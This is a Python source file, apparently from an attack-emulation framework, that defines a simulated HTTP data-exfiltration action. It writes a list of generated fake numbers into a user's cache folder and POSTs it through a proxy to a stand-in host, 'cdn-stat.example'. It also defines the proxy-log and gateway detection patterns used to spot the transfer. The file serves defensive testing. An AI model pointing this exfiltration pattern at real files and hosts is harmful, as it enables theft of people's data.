"""A PC sends a list to the outside by one POST through the proxy."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Annotated, ClassVar

from pydantic import Field

from cyder.contracts.acting import entity, traced
from cyder.contracts.action import Caps, Expected, Scene, Sighting, Trial
from cyder.contracts.stowaway import Stowaway
from cyder.contracts.whereabouts import the
from cyder.model.base import LocalText
from cyder.model.evidence import Receipt, Trace, Truth
from cyder.roles.attacker.calling import FileLeft
from cyder.roles.attacker.calls import Line

_PATH = "/collect"
_ROW = "{number:06d},R8-{case:05d},{amount}"
_HEADINGS = "番号,受付番号,金額"


class HttpPost(FileLeft):
    """A list of made-up numbers, `kilobytes` long, is written in the user's .cache and sent to `/collect` by the proxy.

    The outside counts what comes and throws it away. No file of the office is read.
    """

    id: ClassVar[str] = "exfil.http-post"
    title: ClassVar[LocalText] = LocalText(en="Data sent out over HTTP", ja="HTTPによるデータの持ち出し")
    techniques: ClassVar[tuple[str, ...]] = ("T1041", "T1071.001")
    caps: ClassVar[Caps] = Caps(commands=8)
    touches: ClassVar[str] = "one list of made-up numbers in the user's .cache on the PC"
    ways: ClassVar[tuple[str, ...]] = ("block-at-proxy", "block-at-gateway")
    trials: ClassVar[tuple[Trial, ...]] = (Trial("pc4", "intruder", {"name": "cdn-stat.example", "kilobytes": 200}),)

    kilobytes: Annotated[int, Field(ge=1, le=2048)] = 512

    def run(self, scene: Scene) -> Trace:
        """Write the list and send it once, as whoever sits at the PC."""
        started, line, kept = scene.clock.now(), self.line(scene), self.left(scene)
        kept.keep(self.content(scene))
        page, status = line.call(_PATH, "-H", "Expect:", "--data-binary", f"@{kept.path}")
        said = f"{self.size} bytes to http://{line.name}{_PATH}: {status}"
        return traced(scene, started, reached=(page, status) == ("ok\n", "200"), said=said)

    def emits(self, scene: Scene) -> tuple[Expected, ...]:
        """Expect the request in the proxy's log, and at the outside how much came."""
        arrived = rf' {self.line(scene).name} \[.*\] "POST {_PATH} HTTP/1\.1" 200 {self._sizes()} '
        return (self._sent(scene), Expected(node=scene.target, log="calls", pattern=arrived))

    def sightings(self, scene: Scene) -> tuple[Sighting, ...]:
        """Look at what went to that name, how many bytes the gateway counted on the way, and at the list itself."""
        line, kept = self.line(scene), self.left(scene)
        counted = ("conntrack", "-L", "-p", "tcp", "-d", line.address)
        return (
            line.at_the_proxy(self._sent(scene)),
            Sighting(the(scene, "gateway").name, counted, rf"dst={line.address} .* bytes={self._sizes()} "),
            Sighting(scene.source, ("ls", "-l", kept.folder), f" {self.size} .*{kept.name}"),
        )

    def truth(self, scene: Scene, receipts: Sequence[Receipt]) -> Truth:
        """Name who got it, the list, and when it went."""
        kept = self.left(scene)
        found = entity(kept.name, file=(kept.path, kept.name))
        return self.line(scene).truth("exfil", self._sent(scene), receipts, found)

    @property
    def size(self) -> int:
        """Return how long the list is, in bytes."""
        return self.kilobytes * 1024

    def content(self, scene: Scene) -> str:
        """Return the list: as long as it should be to the byte, the same for the same seed, and nobody's data."""
        start, rows, length = scene.seed.number("list", 40_000), [_HEADINGS], len(_HEADINGS.encode()) + 1
        while length < self.size:
            number = len(rows)
            rows.append(_ROW.format(number=number, case=start + number, amount=100 * (1 + (start + 7 * number) % 900)))
            length += len(rows[-1]) + 1
        return "\n".join(rows).encode()[: self.size - 1].decode() + "\n"

    def line(self, scene: Scene) -> Line:
        """Return the line to whoever gets it; nothing is sent to see whether it is open."""
        return Line(scene, self.name, harmless=_PATH, shows="^ok$")

    def left(self, scene: Scene) -> Stowaway:
        """Return the list."""
        return Stowaway(scene.actor, self.line(scene).person.account, f"list-{scene.marker}.csv")

    def _sent(self, scene: Scene) -> Expected:
        return self.line(scene).fetched(f"POST {_PATH}")

    def _sizes(self) -> str:
        """Return a pattern for a number of bytes that holds the list: a little more, for what stands round it."""
        return rf"\d{{{len(str(self.size))},}}"
